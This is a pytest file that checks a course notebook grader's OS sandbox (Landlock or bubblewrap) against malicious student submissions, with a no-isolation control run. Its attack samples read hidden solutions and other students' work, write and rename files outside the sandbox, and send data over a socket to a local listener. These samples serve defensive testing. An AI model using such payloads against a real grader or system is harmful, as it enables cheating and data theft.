"""The grader's operating-system layer (Linux Landlock, or bubblewrap where Landlock is missing) on its own,
and the isolation levels.

The malicious submissions here run with the audit hook switched off (an Isolation built by the test, as if
the submission had found a way around the hook): only the OS sandbox stands between them and the solutions,
the file system outside their sandbox and the network. It runs once per backend this machine can run. A
control batch with no isolation at all shows that the same attacks do succeed without it.
"""
import csv
import dataclasses
import shutil
import socket
import sys
import threading
from pathlib import Path

import pytest

from tinygrad_course.cli import main
from tinygrad_course.grading.batch import GradeOptions, grade_all
from tinygrad_course.grading.notebook_files import read
from tinygrad_course.grading.sandbox import bubblewrap, channel, containment, landlock
from tinygrad_course.grading.sandbox.isolation import Isolation, IsolationUnavailable, choose
from tinygrad_course.grading.sandbox.runner import Limits, _Attempt, _describe_exit

from .fixtures.submissions import CORRECT
from .test_batch_grader import _make_submission

ABI, WHY_NOT = landlock.abi_version()
needs_landlock_net = pytest.mark.skipif(ABI < 4, reason=f"Landlock TCP rules need ABI 4, this kernel has {ABI} {WHY_NOT}")
FIXTURE = Path(__file__).parent / "fixtures" / "course"
LIMITS = Limits(timeout=30, cell_timeout=10, memory_mb=1024)


def _cheat(exercise, function, attack):
    """The correct solution of `exercise`, wrapped so that `function` first runs `attack`."""
    return f"{CORRECT[exercise]}\n_honest = {function}\ndef {function}(*args):\n    {attack}\n    return _honest(*args)\n"


ATTACKS = {
    "honest": ({}, {"99.1": 2, "99.2": 3, "99.3": 1}),
    "reads_solutions": ({"ex99_1": _cheat("ex99_1", "broadcast_shape", "assert 'HIDDEN' in open(SOLUTION).read()")},
                        {"99.1": 0, "99.2": 3, "99.3": 1}),
    "reads_other_submission": ({"ex99_3": _cheat("ex99_3", "accumulate", "open(OTHER).read()")},
                               {"99.1": 2, "99.2": 3, "99.3": 0}),
    "writes_outside": ({"ex99_1": _cheat("ex99_1", "broadcast_shape", "open(OUTSIDE, 'w').write('pwned')"),
                        "ex99_2": _cheat("ex99_2", "add_backward", "os = __import__('os'); os.path.exists(VICTIM) and os.rename(VICTIM, VICTIM + '.moved')")},
                       {"99.1": 0, "99.2": 0, "99.3": 1}),
    "connects_tcp": ({"ex99_1": _cheat("ex99_1", "broadcast_shape",
                                       "__import__('socket').create_connection(('127.0.0.1', PORT), timeout=5).sendall(b'leak')")},
                     {"99.1": 0, "99.2": 3, "99.3": 1}),
}
ATTACKED = {"reads_solutions": ["99.1"], "reads_other_submission": ["99.3"], "writes_outside": ["99.1", "99.2"],
            "connects_tcp": ["99.1"]}


def _course(root: Path, names, port: int) -> dict:
    solutions, submissions = root / "solutions", root / "submitted"
    shutil.copytree(FIXTURE / "solutions", solutions)
    victim = root / "victim.txt"
    victim.write_text("keep me")
    paths = dict(SOLUTION=str(solutions / "99_demo.ipynb"), OTHER=str(submissions / "honest" / "99_demo.ipynb"),
                 OUTSIDE=str(root / "outside.txt"), VICTIM=str(victim))
    constants = "".join(f"{k} = {v!r}\n" for k, v in paths.items()) + f"PORT = {port}\n"
    released = read(FIXTURE / "exercises" / "99_demo.ipynb")
    for name in names:
        (submissions / name).mkdir(parents=True)
        (submissions / name / "99_demo.ipynb").write_text(_make_submission(released, {"cells": {**CORRECT, **ATTACKS[name][0]}}, constants))
    return dict(solutions=solutions, submissions=submissions, **paths)


def _grade_batch(root: Path, names, isolation) -> dict:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.5)
    try:
        course = _course(root, names, listener.getsockname()[1])
        options = GradeOptions(limits=LIMITS, jobs=2, use_cache=False, isolation=isolation)
        results = grade_all(course["submissions"], "99", root / "grades.csv", course["solutions"], options)
        received = b""
        try:
            while True:
                connection, _ = listener.accept()
                connection.settimeout(2)
                received += connection.recv(100) or b"<connected>"
                connection.close()
        except OSError:
            pass
    finally:
        listener.close()
    return dict(course, received=received, results={r["student"]: r for r in results},
                rows={row["student"]: row for row in csv.DictReader((root / "grades.csv").open())},
                feedback={p.stem: p.read_text() for p in (root / "grades_feedback").glob("*.md")})


def _without_the_audit_hook(backend: str) -> Isolation:
    """The backend's OS layer alone (skips, with the reason, where this machine cannot run it)."""
    if backend == "kernel":
        if ABI < 1:
            pytest.skip(f"Landlock is not available here: {WHY_NOT}")
        return Isolation("kernel without the audit hook (test)", landlock=True,
                         namespace=bool(containment.namespace_prefix()), fences=False)
    try:
        return dataclasses.replace(choose("bwrap"), name="bwrap without the audit hook (test)", fences=False)
    except IsolationUnavailable as exc:
        pytest.skip(str(exc))


# what the attacks see: Landlock refuses; under bubblewrap the files are not there or read-only
REFUSAL = {"kernel": ("PermissionError",),
           "bwrap": ("FileNotFoundError", "OSError: [Errno 30]", "ConnectionRefusedError")}


@pytest.fixture(scope="module", params=["kernel", "bwrap"])
def confined(request, tmp_path_factory):
    isolation = _without_the_audit_hook(request.param)
    names = list(ATTACKS) if ABI >= 4 or request.param == "bwrap" else [n for n in ATTACKS if n != "connects_tcp"]
    return dict(_grade_batch(tmp_path_factory.mktemp(request.param), names, isolation), backend=request.param,
                isolation=isolation)


@pytest.fixture(scope="module")
def unconfined(tmp_path_factory):
    return _grade_batch(tmp_path_factory.mktemp("no_landlock"), list(ATTACKS), "unsafe-no-isolation")


@pytest.mark.slow
@pytest.mark.parametrize("name", ["reads_solutions", "reads_other_submission", "writes_outside", "connects_tcp"])
def test_attacks_past_the_audit_hook_are_stopped_by_the_os(confined, name):
    if name == "connects_tcp" and confined["backend"] == "kernel" and ABI < 4:
        pytest.skip(f"Landlock TCP rules need ABI 4, this kernel has {ABI} {WHY_NOT}")
    row, expected = confined["rows"][name], dict(ATTACKS[name][1])
    if confined["backend"] == "bwrap" and name == "writes_outside":
        expected["99.2"] = 3  # the victim is not in the worker's view: `os.path.exists` is False, nothing raises
    assert {e: float(row[e]) for e in expected} == {e: float(p) for e, p in expected.items()}, confined["feedback"][name]
    assert row["isolation"] == confined["isolation"].describe()
    feedback = confined["feedback"][name]
    assert any(refusal in feedback for refusal in REFUSAL[confined["backend"]]), feedback


@pytest.mark.slow
def test_nothing_outside_the_sandbox_was_written_read_or_contacted(confined):
    assert not Path(confined["OUTSIDE"]).exists()
    assert Path(confined["VICTIM"]).read_text() == "keep me"
    assert confined["received"] == b""


@pytest.mark.slow
def test_honest_grade_is_the_same_with_and_without_the_os_sandbox(confined, unconfined):
    assert confined["rows"]["honest"]["total"] == unconfined["rows"]["honest"]["total"] == "6"


@pytest.mark.slow
def test_without_any_isolation_the_same_attacks_succeed_and_the_csv_says_so(unconfined):
    """The control: the attacks above are real; with no isolation they get full marks."""
    assert {name: unconfined["rows"][name]["total"] for name in ATTACKS} == {name: "6" for name in ATTACKS}
    assert Path(unconfined["OUTSIDE"]).read_text() == "pwned"
    assert Path(unconfined["VICTIM"] + ".moved").exists()
    assert unconfined["received"].startswith(b"leak")
    assert {r["isolation"].split(":")[0] for r in unconfined["rows"].values()} == {"unsafe-no-isolation"}
    assert all("unsafe-no-isolation" in text for text in unconfined["feedback"].values())


@pytest.fixture
def one_honest(tmp_path):
    course = _course(tmp_path, ["honest"], port=9)
    out = tmp_path / "grades.csv"
    return ["grade", str(course["submissions"]), "--assignment", "99", "--out", str(out), "--solutions",
            str(course["solutions"]), "--timeout", "30", "--cell-timeout", "10", "--jobs", "1"], out


def _unavailable(monkeypatch):
    monkeypatch.setattr(landlock, "abi_version", lambda: (0, "this kernel has no Landlock (simulated)"))


@pytest.mark.slow
@needs_landlock_net
def test_the_default_is_the_kernel_sandbox_and_says_so(one_honest, capsys):
    args, out = one_honest
    assert main(args) == 0
    printed = capsys.readouterr().out
    assert "isolation: kernel: Landlock + " in printed and "'honest': 6" in printed
    assert ",kernel: Landlock" in out.read_text()


@pytest.mark.slow
def test_without_landlock_the_default_grades_with_bubblewrap(one_honest, capsys, monkeypatch):
    try:
        choose("bwrap")
    except IsolationUnavailable as exc:
        pytest.skip(str(exc))
    _unavailable(monkeypatch)
    args, out = one_honest
    assert main(args) == 0
    printed = capsys.readouterr().out
    assert "isolation: bwrap: bubblewrap (read-only mounts, no network, PID namespace) + audit hook" in printed
    assert "'honest': 6" in printed and ",\"bwrap: bubblewrap" in out.read_text()


def test_without_landlock_and_bubblewrap_the_default_refuses_to_grade_anything(one_honest, capsys, monkeypatch):
    _unavailable(monkeypatch)
    monkeypatch.setattr(bubblewrap, "probe", lambda: ("", frozenset(), "bwrap is not installed (simulated)"))
    args, out = one_honest
    assert main(args) == 2
    err = capsys.readouterr().err
    assert "this kernel has no Landlock (simulated)" in err and "bwrap is not installed (simulated)" in err
    assert "--unsafe-isolation" in err
    assert not out.exists()
    assert main(args + ["--isolation", "bwrap"]) == 2
    assert "the bwrap isolation cannot run: bwrap is not installed (simulated)" in capsys.readouterr().err


@pytest.mark.slow
def test_weaker_isolation_needs_its_loud_flag_and_is_recorded(one_honest, capsys, monkeypatch):
    _unavailable(monkeypatch)
    args, out = one_honest
    assert main(args + ["--unsafe-isolation", "unsafe-audit-hook-only"]) == 0
    captured = capsys.readouterr()
    assert "WARNING" in captured.err and "'honest': 6" in captured.out
    assert ",unsafe-audit-hook-only: " in out.read_text()
    assert "isolation unsafe-audit-hook-only" in (out.parent / "grades_feedback" / "honest.md").read_text()


def test_isolation_levels_never_downgrade(monkeypatch):
    monkeypatch.setattr(sys, "platform", "darwin")
    assert landlock.abi_version() == (0, "Landlock is Linux-only (this is darwin)")
    with pytest.raises(IsolationUnavailable, match="Linux-only"):
        choose("kernel")
    monkeypatch.setattr(bubblewrap, "probe", lambda: ("", frozenset(), "bwrap is not installed (simulated)"))
    with pytest.raises(IsolationUnavailable, match="Linux-only.*bwrap is not installed"):
        choose("auto")
    assert not choose("unsafe-audit-hook-only").landlock and choose("unsafe-audit-hook-only").fences
    with pytest.raises(ValueError):
        choose("off")


def test_readable_paths_are_an_allow_list_without_the_course_folders(tmp_path):
    sandbox = tmp_path / "sandbox"
    sandbox.mkdir()
    readable = landlock.readable_paths(str(sandbox))
    root = Path(__file__).resolve().parents[2]
    assert str(sandbox) in readable and sys.base_prefix in readable
    for secret in (root, root / "solutions", FIXTURE / "solutions", tmp_path):
        assert str(secret) not in readable
    assert landlock.exposed(readable, [str(root / "solutions"), str(FIXTURE / "solutions")]) == []
    assert landlock.exposed(readable, [str(sandbox / "x")]) == [str(sandbox / "x")]


def _attempt_that_saw(*events, returncode):
    attempt = _Attempt({}, choose("unsafe-no-isolation"), Limits(), 0.0, threading.Event())
    attempt._take(bytearray(b"".join(channel.event(kind, step=-1, **fields) for kind, fields in events)))
    attempt.returncode = returncode
    return attempt


def test_a_worker_that_cannot_confine_itself_explains_why():
    failed = _attempt_that_saw(("sandbox_failed", {"why": "OSError: landlock_restrict_self: Operation not permitted"}),
                               returncode=70)
    problem = _describe_exit(failed, Limits())
    assert problem == ("the OS sandbox could not be applied: OSError: landlock_restrict_self: Operation not permitted; "
                       "the notebook was not run")


def test_a_notebook_cannot_claim_the_sandbox_failed():
    """Sent after the worker's own `isolation` event (so by learner code), with exit status 70: an early exit."""
    forged = _attempt_that_saw(("isolation", {"layers": ["Landlock ABI 7"]}), ("sandbox_failed", {"why": "forged"}),
                               returncode=70)
    assert _describe_exit(forged, Limits()) == "the notebook process exited early (exit code 70)"
    silent = _attempt_that_saw(returncode=70)
    assert "the grader's worker stopped before the notebook ran (exit code 70" in _describe_exit(silent, Limits())


def test_bubblewrap_mounts_only_the_allow_list_read_only(tmp_path):
    (tmp_path / "sandbox").mkdir()
    sandbox = str(tmp_path / "sandbox")
    readable = landlock.readable_paths(sandbox)
    argv = bubblewrap.command("/usr/bin/bwrap", frozenset({"size", "disable-userns"}), sandbox, readable, 16)
    assert argv[-1] == "--"
    assert {"--unshare-all", "--unshare-user", "--disable-userns", "--die-with-parent"} <= set(argv)
    assert argv[argv.index("--cap-drop") + 1] == "ALL"
    mounted = [argv[i + 1] for i, a in enumerate(argv) if a in ("--ro-bind", "--bind")]
    assert mounted == [p for p in readable if p != sandbox and not p.startswith(("/proc", "/dev"))]
    tmpfs = argv.index("--tmpfs")
    assert argv[tmpfs - 4:tmpfs + 2] == ["--size", str(16 << 20), "--perms", "0700", "--tmpfs", sandbox]
    old = bubblewrap.command("/usr/bin/bwrap", frozenset(), sandbox, readable, 16)
    assert "--disable-userns" not in old and "--tmpfs" not in old and old[old.index("--bind") + 1] == sandbox
    isolation = Isolation("bwrap", False, True, True, bwrap="/usr/bin/bwrap", bwrap_features=frozenset())
    assert not isolation.private_tmpfs  # without a tmpfs size the grader measures the folder itself


def test_under_bubblewrap_a_worker_killed_by_a_signal_is_named():
    """bwrap exits with 128 + N when the worker died of signal N."""
    attempt = _attempt_that_saw(("isolation", {"layers": []}), returncode=128 + 11)
    attempt.isolation = Isolation("bwrap", False, True, True, bwrap="/usr/bin/bwrap")
    assert _describe_exit(attempt, Limits()).startswith("the notebook process crashed (SIGSEGV)")
